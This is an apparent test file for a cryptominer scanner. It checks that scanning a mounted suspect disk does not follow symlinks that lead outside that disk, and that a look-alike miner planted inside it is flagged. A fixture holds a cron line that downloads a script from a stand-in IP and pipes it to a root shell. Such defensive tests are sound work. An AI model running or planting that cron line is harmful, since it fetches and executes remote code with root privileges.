// End-to-end: the scan of an offline root (`--root`) never leaves it through the root's own
// symlinks. A mounted suspect disk whose /opt is an absolute link to the analyst's directory (or
// whose /srv and /var/www climb out with `..`, or whose copied proc/ names an executable behind such
// a link, or whose /etc/cron.d points out) gets a low note naming the link, and nothing of the
// analyst's own files is reported as the target's; the same look-alike miner placed inside the root
// (at /opt/tool, and at /app/tool, which only the process's executable leads to) is reported.
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { copyFile, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.js';
import type { Snapshot } from '../../src/snapshot/schema.js';
import { makeContext } from '../../src/collect/context.js';
import { RootReader } from '../../src/collect/linux/persistence/reader.js';
import { CollectorLog } from '../../src/collect/support.js';
import { describeFinding, ensureBuilt, runCli, runCliJson, type ReportJson } from '../helpers/cli.js';
import { LOOKALIKE_SOURCE, makeTempDir } from '../helpers/lookalike.js';

const execFileP = promisify(execFile);
const DOWNLOAD_CRON = '* * * * * root curl -fsSL http://192.0.2.10/x.sh | sh\n';
const CLOCK = '2023-11-15T22:13:20Z';

let dir: string;
/** The analyst's own directory, outside every root: the look-alike miner and a dropper's crontab. */
let outside: string;

/** Paths the findings name: file evidence, process executables and remediation targets. */
function namedPaths(findings: Finding[]): string[] {
  return findings.flatMap((f) => [
    ...f.evidence.flatMap((e) =>
      e.type === 'file' ? [e.path] : e.type === 'process' && e.exe ? [e.exe] : [],
    ),
    ...f.remediate.flatMap((a) => ('path' in a && typeof a.path === 'string' ? [a.path] : [])),
  ]);
}

function notes(report: ReportJson): Finding[] {
  return report.findings.filter((f) => f.ruleId === 'symlink-outside-root');
}

/** A root with etc/passwd, and, given `exe`, a proc/ copy of one process that runs it. */
async function makeRoot(name: string, exe?: string): Promise<string> {
  const root = path.join(dir, name);
  await mkdir(path.join(root, 'etc'), { recursive: true });
  await writeFile(path.join(root, 'etc', 'passwd'), 'root:x:0:0:root:/root:/bin/sh\n');
  if (exe === undefined) return root;
  const proc = path.join(root, 'proc', '4343');
  await mkdir(proc, { recursive: true });
  await writeFile(path.join(root, 'proc', 'stat'), 'cpu  1 0 1 100 0 0 0 0 0 0\nbtime 1700000000\n');
  await writeFile(path.join(root, 'proc', 'uptime'), '86400.00 100000.00\n');
  await writeFile(
    path.join(proc, 'stat'),
    '4343 (tool) S 1 4343 4343 0 -1 4194560 0 0 0 0 100 10 0 0 20 0 1 0 8000000 1000000 500 18446744073709551615 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0\n',
  );
  await writeFile(
    path.join(proc, 'status'),
    'Name:\ttool\nState:\tS (sleeping)\nPid:\t4343\nPPid:\t1\nUid:\t0\t0\t0\t0\nVmRSS:\t1000 kB\nThreads:\t1\n',
  );
  await writeFile(path.join(proc, 'cmdline'), `${exe}\0`);
  await writeFile(path.join(proc, 'comm'), 'tool\n');
  await writeFile(path.join(proc, 'environ'), '');
  await writeFile(path.join(proc, 'maps'), '');
  // What the kernel would print for the process's executable: a path as the target sees it.
  await symlink(exe, path.join(proc, 'exe'));
  return root;
}

async function scan(root: string): Promise<ReportJson> {
  const run = await runCliJson(['scan', '--root', root, '--format', 'json', '--no-cache', '--lang', 'en']);
  expect(run.stderr).not.toMatch(/internal error/i);
  return run.json;
}

async function collect(root: string): Promise<Snapshot> {
  const out = path.join(dir, `${path.basename(root)}.snapshot.json`);
  const run = await runCli(['collect', '--root', root, '--no-cache', '-o', out]);
  expect(run.code, run.stderr).toBe(0);
  return JSON.parse(await readFile(out, 'utf8')) as Snapshot;
}

beforeAll(async () => {
  await ensureBuilt();
  dir = await makeTempDir('minehunter-root-escape-');
  outside = path.join(dir, 'analyst-tools');
  await mkdir(path.join(outside, 'cron.d'), { recursive: true });
  await execFileP('cc', ['-O1', '-Wall', '-o', path.join(outside, 'tool'), LOOKALIKE_SOURCE]);
  await writeFile(path.join(outside, 'cron.d', 'job'), DOWNLOAD_CRON);
}, 120_000);

afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('scan --root: a directory of the target that is an absolute link out of it', () => {
  let root: string;
  let report: ReportJson;
  beforeAll(async () => {
    root = await makeRoot('abs-link');
    await symlink(outside, path.join(root, 'opt'));
    report = await scan(root);
  }, 120_000);

  it("reports nothing of the analyst's file and no miner at /opt/tool", () => {
    const all = report.findings.map(describeFinding).join('\n');
    expect(namedPaths(report.findings), all).not.toContain('/opt/tool');
    expect(namedPaths(report.findings).filter((p) => p.startsWith(outside) || p.startsWith(root))).toEqual(
      [],
    );
    expect(
      report.findings.filter((f) => f.category === 'miner'),
      all,
    ).toEqual([]);
    expect(report.verdict.status).not.toBe('infected');
  });

  it('says the link was not followed, in a low tampering note without remediation', () => {
    expect(notes(report)).toEqual([
      expect.objectContaining({
        level: 'low',
        category: 'tampering',
        remediate: [],
        message: expect.objectContaining({
          en: `/opt in the target is a symbolic link to ${outside}, outside the target: not followed`,
          'zh-CN': `目标中的 /opt 是指向 ${outside} 的符号链接，位于目标之外：未跟随`,
        }),
      }),
    ]);
  });

  it('records the link in the snapshot, with /opt left out of the scanned roots', async () => {
    const snapshot = await collect(root);
    expect(snapshot.content?.linksOutsideRoot).toEqual([
      { path: '/opt', target: outside, notScanned: ['/opt'] },
    ]);
    expect(snapshot.content?.roots).toEqual(['/etc']);
    expect(snapshot.content?.files.map((f) => f.path)).toEqual([]);
  });
});

describe('scan --root: links whose `..` climb above the root', () => {
  let root: string;
  let report: ReportJson;
  beforeAll(async () => {
    root = await makeRoot('climb');
    // On this machine srv is the analyst's directory, and var/www the directory holding the roots.
    await symlink(path.join('..', path.basename(outside)), path.join(root, 'srv'));
    await mkdir(path.join(root, 'var'));
    await symlink('../../..', path.join(root, 'var', 'www'));
    report = await scan(root);
  }, 120_000);

  it('stays inside: nothing under /srv or /var/www is scanned or reported', async () => {
    const all = report.findings.map(describeFinding).join('\n');
    expect(
      report.findings.filter((f) => f.category === 'miner'),
      all,
    ).toEqual([]);
    const snapshot = await collect(root);
    expect(snapshot.content?.roots).toEqual(['/etc']);
    expect(snapshot.content?.files).toEqual([]);
    expect(snapshot.content?.linksOutsideRoot).toEqual([
      { path: '/srv', target: `../${path.basename(outside)}`, notScanned: ['/srv'] },
      { path: '/var/www', target: '../../..', notScanned: ['/var/www'] },
    ]);
  });

  it('notes both links', () => {
    expect(notes(report).map((f) => f.message.en)).toEqual(
      expect.arrayContaining([
        `/srv in the target is a symbolic link to ../${path.basename(outside)}, outside the target: not followed`,
        '/var/www in the target is a symbolic link to ../../.., outside the target: not followed',
      ]),
    );
  });
});

describe("scan --root: a copied proc/ whose process runs a path behind the target's /app link", () => {
  let root: string;
  let report: ReportJson;
  beforeAll(async () => {
    // /app is none of the directories scanned by default: only the process's executable leads there.
    root = await makeRoot('proc-exe', '/app/tool');
    await symlink(outside, path.join(root, 'app'));
    report = await scan(root);
  }, 120_000);

  it("does not scan or hash the analyst's file as the process's executable", async () => {
    const all = report.findings.map(describeFinding).join('\n');
    expect(
      report.findings.filter((f) => f.ruleId === 'content-match'),
      all,
    ).toEqual([]);
    expect(
      report.findings.filter((f) => f.remediate.some((a) => a.type === 'quarantine-file')),
      all,
    ).toEqual([]);
    const snapshot = await collect(root);
    const proc = snapshot.processes?.find((p) => p.pid === 4343);
    expect(proc?.exe).toBe('/app/tool');
    expect(proc?.exeSha256).toBeUndefined();
    expect(snapshot.content?.files).toEqual([]);
    expect(snapshot.content?.linksOutsideRoot).toEqual([
      { path: '/app', target: outside, notScanned: ['/app/tool'] },
    ]);
  });

  it('names the executable left unscanned in the note', () => {
    expect(notes(report).map((f) => f.message.en)).toEqual([
      `/app in the target is a symbolic link to ${outside}, outside the target: not followed; not scanned: /app/tool`,
    ]);
  });
});

describe('scan --root: /etc/cron.d is a link out of the root', () => {
  let root: string;
  beforeAll(async () => {
    root = await makeRoot('cron-link');
    await symlink(path.join(outside, 'cron.d'), path.join(root, 'etc', 'cron.d'));
  }, 120_000);

  it("the persistence reader lists and reads nothing of the analyst's crontab", async () => {
    const ctx = await makeContext(root, () => new Date(CLOCK));
    const log = new CollectorLog('linux.persistence', ['persistence']);
    const reader = new RootReader(ctx, log);
    expect(await reader.list('/etc/cron.d')).toEqual([]);
    expect(await reader.text('/etc/cron.d/job')).toBeUndefined();
    expect(await reader.exists('/etc/cron.d/job')).toBe(false);
    expect(await reader.host('/etc/cron.d/job')).toBe(path.join(root, outside, 'cron.d', 'job'));
    expect(log.errors).toEqual([]);
    // The crontab on this machine is still there and would be flagged if it were read.
    expect(await readFile(path.join(outside, 'cron.d', 'job'), 'utf8')).toBe(DOWNLOAD_CRON);
  });

  it('the scan reports no persistence from it', async () => {
    const report = await scan(root);
    const all = report.findings.map(describeFinding).join('\n');
    expect(namedPaths(report.findings), all).not.toContain('/etc/cron.d/job');
    expect(
      report.findings.filter((f) => f.category === 'persistence'),
      all,
    ).toEqual([]);
    const snapshot = await collect(root);
    expect(JSON.stringify(snapshot.persistence)).not.toContain('192.0.2.10');
  });
});

describe('scan --root: the twin, the same look-alike inside the root', () => {
  it('is reported as a miner at /opt/tool and as the executable /app/tool, with quarantine steps', async () => {
    const root = await makeRoot('twin', '/app/tool');
    for (const d of ['opt', 'app']) {
      await mkdir(path.join(root, d));
      await copyFile(path.join(outside, 'tool'), path.join(root, d, 'tool'));
    }
    const report = await scan(root);
    const all = report.findings.map(describeFinding).join('\n');
    for (const exe of ['/opt/tool', '/app/tool']) {
      const miner = report.findings.find((f) => namedPaths([f]).includes(exe) && f.category === 'miner');
      expect(miner, `${exe}\n${all}`).toBeDefined();
      expect(['critical', 'high']).toContain(miner?.level);
      expect(miner?.remediate).toContainEqual({ type: 'quarantine-file', path: exe });
    }
    expect(notes(report)).toEqual([]);
    expect(report.verdict.status).toBe('infected');
    // Scanning never changed the files.
    expect(existsSync(path.join(root, 'opt', 'tool'))).toBe(true);
    expect(existsSync(path.join(root, 'app', 'tool'))).toBe(true);
  });

  it('behind a link the root holds (/opt -> /data/opt), is scanned there and shown as /opt/tool', async () => {
    const root = await makeRoot('inside-link');
    await mkdir(path.join(root, 'data', 'opt'), { recursive: true });
    await copyFile(path.join(outside, 'tool'), path.join(root, 'data', 'opt', 'tool'));
    await symlink('/data/opt', path.join(root, 'opt'));
    const report = await scan(root);
    const all = report.findings.map(describeFinding).join('\n');
    const miner = report.findings.find((f) => f.category === 'miner');
    expect(miner?.remediate, all).toEqual([{ type: 'quarantine-file', path: '/opt/tool' }]);
    expect(notes(report)).toEqual([]);
    const snapshot = await collect(root);
    expect(snapshot.content?.roots).toEqual(['/etc', '/opt']);
    expect(snapshot.content?.files.map((f) => f.path)).toEqual(['/opt/tool']);
    expect(snapshot.content?.linksOutsideRoot).toBeUndefined();
  });
});
